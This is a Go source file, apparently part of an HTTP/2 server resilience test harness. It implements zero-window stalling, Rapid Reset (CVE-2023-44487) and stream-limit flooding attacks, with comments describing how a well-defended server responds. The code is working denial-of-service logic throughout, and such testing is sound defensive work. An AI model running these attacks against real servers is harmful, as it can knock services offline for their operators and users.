package hostile

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// maxStreamsOpened bounds the streams one connection of an attack opens.
const maxStreamsOpened = 1 << 20

// ZeroWindow asks for the large answer on as many streams as the server
// allows at once, with SETTINGS_INITIAL_WINDOW_SIZE 0 and the
// connection's window never opened: every answer waits for window that
// never comes. A stream the server resets or ends is replaced by a new
// one. A server that bounds what waiting answers hold resets streams
// past the bound, and those that wait too long.
func ZeroWindow(ctx context.Context, tg Target, o Options) Report {
	return run(ctx, tg, o, "zero-window", func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, 0); err != nil {
			return err
		}
		if err := c.handshake(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
			return err
		}
		slots := int(c.res.MaxStreams)
		if slots == 0 {
			slots = 100
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		c.keepOpen(ctx, end, slots, func(id uint32) error {
			_, err := c.request("GET", c.tg.LargePath, true)
			return err
		})
		c.wait(ctx, end)
		return nil
	})
}

// keepOpen keeps n streams open until end: it opens one with open (c.wmu
// held; id is the stream's, recorded before its frame is flushed, so
// before the server can end it) whenever the server ends one of its own,
// for at most maxStreamsOpened streams, and returns when the server
// closes the connection, ctx ends or a write fails.
func (c *conn) keepOpen(ctx context.Context, end time.Time, n int, open func(id uint32) error) {
	// freed holds a token per free slot: filled at first, then one per
	// stream the server ended. A stream of ours ends at most once, so it
	// never holds more than n.
	freed := make(chan struct{}, n)
	for range n {
		freed <- struct{}{}
	}
	opened := map[uint32]bool{} // guarded by c.mu
	c.goRead(func(_ http2.Frame, id uint32) {
		c.mu.Lock()
		was := opened[id]
		delete(opened, id)
		c.mu.Unlock()
		if was {
			freed <- struct{}{}
		}
	})
	deadline := time.NewTimer(time.Until(end))
	defer deadline.Stop()
	for range maxStreamsOpened {
		select {
		case <-freed:
		case <-c.closed:
			return
		case <-ctx.Done():
			return
		case <-deadline.C:
			return
		}
		err := c.writeLocked(func() error {
			c.mu.Lock()
			opened[c.nextID] = true
			c.mu.Unlock()
			return open(c.nextID)
		})
		if err != nil {
			return
		}
	}
}

// rapidBatch is the streams a rapid reset opens and resets per write.
const rapidBatch = 32

// RapidReset opens streams for the small answer and resets each at once
// (HEADERS then RST_STREAM), as fast as the connection takes them
// (CVE-2023-44487). A server that bounds the handlers a connection may
// have running, reset streams' included, sends GOAWAY.
func RapidReset(ctx context.Context, tg Target, o Options) Report {
	return run(ctx, tg, o, "rapid-reset", func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, 0); err != nil {
			return err
		}
		if err := c.handshake(); err != nil {
			return err
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		c.goRead(nil)
		for opened := 0; opened < maxStreamsOpened && time.Now().Before(end) && ctx.Err() == nil; opened += rapidBatch {
			select {
			case <-c.closed:
				return nil
			default:
			}
			err := c.writeLocked(func() error {
				for range rapidBatch {
					id, err := c.request("GET", c.tg.SmallPath, true)
					if err != nil {
						return err
					}
					if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			})
			if err != nil {
				return nil
			}
		}
		return nil
	})
}

// MaxStreams opens twice as many streams as the server's
// MAX_CONCURRENT_STREAMS at once, each a watch that stays open: the
// streams past the limit must be refused (RST_STREAM REFUSED_STREAM or
// PROTOCOL_ERROR), the others served.
func MaxStreams(ctx context.Context, tg Target, o Options) Report {
	return run(ctx, tg, o, "max-streams", func(ctx context.Context, c *conn) error {
		if err := c.dial(ctx, 0); err != nil {
			return err
		}
		if err := c.handshake(); err != nil {
			return err
		}
		limit := int(c.res.MaxStreams)
		if limit == 0 {
			limit = 1000
		}
		end, stop := c.begin(ctx, o.Duration)
		defer stop()
		c.goRead(nil)
		_ = c.writeLocked(func() error {
			for range 2 * limit {
				if _, err := c.request("GET", c.tg.WatchPath, true); err != nil {
					return err
				}
			}
			return nil
		})
		c.wait(ctx, end)
		return nil
	})
}
